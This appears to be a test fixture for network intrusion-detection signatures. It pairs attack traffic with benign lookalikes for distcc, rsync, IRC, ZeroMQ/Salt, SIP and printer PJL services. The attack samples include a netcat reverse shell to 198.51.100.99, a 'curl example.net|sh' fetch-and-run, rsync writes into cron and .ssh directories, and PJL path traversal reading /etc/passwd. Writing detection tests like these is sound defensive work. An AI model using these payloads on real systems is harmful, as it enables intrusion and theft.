import { big, type SignatureCase, says, signature, talk } from '../exchange';

const eight = (value: number) => value.toString(16).padStart(8, '0');
const distcc = (...args: string[]) =>
  `DIST00000001ARGC${eight(args.length)}${args.map((arg) => `ARGV${eight(arg.length)}${arg}`).join('')}DOTI00000000`;

const rsync = (...lines: string[]) =>
  talk(873, says('@RSYNCD: 31.0\n'), '@RSYNCD: 31.0\n', says('@RSYNCD: OK\n'), lines.join('\n'));

/** ZeroMQ greeting, then a message: flags, length, MessagePack. */
const zmq = (message: string) =>
  talk(
    4506,
    `\xff${'\0'.repeat(8)}\x7f\x03\0NULL${'\0'.repeat(48)}`,
    `\0${big(1, message.length)}${message}`,
  );
const pack = (text: string) => `${big(1, 0xa0 + text.length)}${text}`;

const sip = (agent: string) =>
  talk(
    5060,
    `OPTIONS sip:100@192.0.2.1 SIP/2.0\r\nVia: SIP/2.0/TCP 198.51.100.7:5060\r\nFrom: <sip:100@1.1.1.1>\r\nUser-Agent: ${agent}\r\nContent-Length: 0\r\n\r\n`,
  );

export const services: readonly SignatureCase[] = [
  signature(
    9000801,
    [
      talk(3632, distcc('sh', '-c', 'id', '#', '-c', 'main.c', '-o', 'main.o')),
      talk(3632, distcc('/bin/bash', '-c', 'curl example.net|sh', 'a.o')),
    ],
    [talk(3632, distcc('gcc', '-c', 'shell.c', '-o', 'shell.o')), talk(3632, distcc('cc', '-c', 'sh-c.c'))],
  ),
  signature(
    9000802,
    [
      rsync('files', '--server', '-vlogDtprze.iLsfxC', '.', 'files/etc/cron.d/', '', ''),
      rsync('root', '--server', '-e.LsfxCIvu', '.', 'root/home/ann/.ssh/', ''),
    ],
    [
      rsync('backup', '--server', '--sender', '-vlogDtprze.iLsfxC', '.', 'backup/etc/cron.d/', ''),
      rsync('files', '--server', '-vlogDtprze.iLsfxC', '.', 'files/reports/', ''),
    ],
  ),
  signature(
    9000803,
    [
      talk(6667, says(':irc.example.org NOTICE AUTH :*** Looking up your hostname...\r\n'), 'AB; id\n'),
      talk(6697, 'AB;nc -e /bin/sh 198.51.100.99 4444\r\n'),
    ],
    [talk(6667, 'NICK AB;\r\nUSER ab 0 * :AB; not a command\r\n')],
  ),
  signature(
    9000804,
    [
      zmq(`\x82${pack('enc')}${pack('clear')}${pack('load')}\x81${pack('cmd')}${pack('_prep_auth_info')}`),
      zmq(
        `\x82${pack('load')}\x82${pack('id')}${pack('x')}${pack('cmd')}${pack('_prep_auth_info')}${pack('enc')}${pack('clear')}`,
      ),
    ],
    [zmq(`\x82${pack('enc')}${pack('clear')}${pack('load')}\x81${pack('cmd')}${pack('ping')}`)],
  ),
  signature(
    9000805,
    [sip('friendly-scanner'), sip('SIPVicious/0.3.4')],
    [sip('Linphone/5.2'), sip('friendly-phone 1.0')],
  ),
  signature(
    9000806,
    [
      talk(9100, '\x1b%-12345X@PJL FSUPLOAD NAME="0:\\..\\..\\etc\\passwd" OFFSET=0 SIZE=999\r\n'),
      talk(9100, '@pjl fsdirlist  NAME="0:/../../" ENTRY=1\r\n'),
    ],
    [
      talk(9100, '\x1b%-12345X@PJL JOB NAME="..\\report.doc"\r\n@PJL ENTER LANGUAGE=PCL\r\n'),
      talk(9100, '@PJL FSQUERY NAME="0:\\fonts"\r\n'),
    ],
  ),
];
